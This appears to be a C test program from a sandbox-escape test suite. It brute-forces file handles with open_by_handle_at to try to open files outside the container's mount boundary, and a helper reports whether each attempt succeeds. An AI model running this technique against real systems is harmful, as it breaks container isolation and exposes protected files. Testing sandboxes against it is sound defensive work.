/* Opens files by their number instead of their name, which knows no walls. */
#include "attack.h"
int main(void) {
    struct { struct file_handle head; char room[128]; } handle = {0};
    int mount;
    handle.head.handle_bytes = 128;
    door("name to handle", name_to_handle_at(AT_FDCWD, "/", &handle.head, &mount, 0));
    for (unsigned inode = 1; inode < 300; inode++) {
        for (int kind = 1; kind < 3; kind++) {
            handle.head.handle_bytes = 8, handle.head.handle_type = kind;
            memcpy(handle.room, &inode, 4);
            int at = open("/etc/hosts", O_RDONLY);
            door("open by handle", open_by_handle_at(at, &handle.head, O_RDONLY));
            close(at);
        }
    }
    return done();
}
